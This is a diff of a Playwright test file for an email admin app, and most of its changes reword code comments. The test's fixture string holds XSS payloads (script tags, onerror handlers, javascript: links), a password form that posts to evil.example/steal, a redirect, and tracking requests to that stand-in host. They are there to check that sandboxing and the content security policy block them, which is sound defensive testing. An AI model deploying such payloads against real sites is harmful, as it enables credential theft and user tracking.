@@ -10,7 +10,7 @@ const paragraphs = [
 	'<p>The ferry has a new skipper, and the gulls know it already. What else changes when one person steers differently, and why does the pier creak on Thursdays?</p>',
 ] as const;
 
-/** What strangers try: each of these would show in the page, in its dialogs or in its requests. */
+/** What attackers try: each of these would show in the page, in its dialogs or in its requests. */
 const hostile = `<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 1"><a href="javascript:window.pwned=1">Press</a>
 <form action="https://evil.example/steal"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example/">
 <style>body { background: url(https://evil.example/css) }</style><div style="background-image: url(https://evil.example/inline)">Words</div>
@@ -18,9 +18,9 @@ const hostile = `<script>window.pwned = 1</script><img src="x" onerror="window.p
 <img src="https://evil.example/pixel.gif" width="1" height="1"><img src="https://evil.example/photo.jpg" alt="A pier">`;
 
 test.describe('with a mailbox', () => {
-	// biome-ignore lint/suspicious/noSkippedTests: only where there is no mail server to install
+	// biome-ignore lint/suspicious/noSkippedTests: only where Dovecot is not installed
 	test.skip(!hasDovecot, 'Dovecot is not installed');
-	// Looking into the frame needs a script in it, and its picture from elsewhere: the sandbox and the policy forbid both.
+	// Inspecting the frame needs a script in it, and the mail has a remote picture: the sandbox and the CSP block both.
 	test.use({
 		expectedNoise: [
 			/Blocked script execution in .*\/original|evil\.example.* violates .*Content Security|Failed to load resource: net::/,
@@ -51,7 +51,7 @@ test.describe('with a mailbox', () => {
 		await fetchUntil(page, rows, 3);
 
 		const elsewhere: string[] = [];
-		// What the policy holds back is announced like a request, and never leaves.
+		// Requests blocked by the CSP are announced like others but never leave.
 		const note = (request: Request) => {
 			if (/evil\.example/.test(request.url()) && request.failure()?.errorText !== 'csp')
 				elsewhere.push(request.url());
@@ -77,10 +77,10 @@ test.describe('with a mailbox', () => {
 		const processing = [1, 2, 3].map((number) =>
 			page.getByRole('button', { name: `Process Letter ${number} of ${mark}` }),
 		);
-		// Looked for at every frame from now on: another toast may take its place.
+		// Checked on every frame from now on, since another toast may replace it.
 		const told = page.waitForFunction(() => document.body.textContent?.includes('Email processed'));
 		told.catch(() => {});
-		// What the clock fetches it also has processed, perhaps a moment before the press.
+		// A scheduled fetch also processes mail, perhaps just before the click.
 		const isPressed = await processing[0]?.click({ timeout: 5000 }).then(
 			() => true,
 			() => false,
@@ -114,7 +114,7 @@ test.describe('with a mailbox', () => {
 		await tick.uncheck();
 		await expect(review.getByRole('button', { name: 'Apply All Suggested Names' })).toHaveCount(0);
 		await tick.check();
-		// Somebody else renames it meanwhile: what was shown is no longer so, and is not done.
+		// Renamed by somebody else in the meantime: the suggestion is stale and not applied.
 		await page.request.patch(`/api/newsletters/${listed.id}`, { data: { name: `Also wrong ${mark}` } });
 		await review.getByRole('button', { name: 'Apply All Suggested Names' }).click();
 		await expect(review.getByRole('list', { name: 'Names that were not changed' })).toContainText(
@@ -273,7 +273,7 @@ for (const look of looks)
 		await open(page, '/admin/email?tab=sources', 'Email Management');
 		await expect(page.getByRole('row').nth(1)).toBeVisible();
 		await expectAccessible(page);
-		// The frame of the table hides what stands out of it.
+		// The table's container clips what overflows.
 		const cut = await page
 			.getByRole('table')
 			.evaluate((table) => table.clientWidth - (table.parentElement?.clientWidth ?? 0));
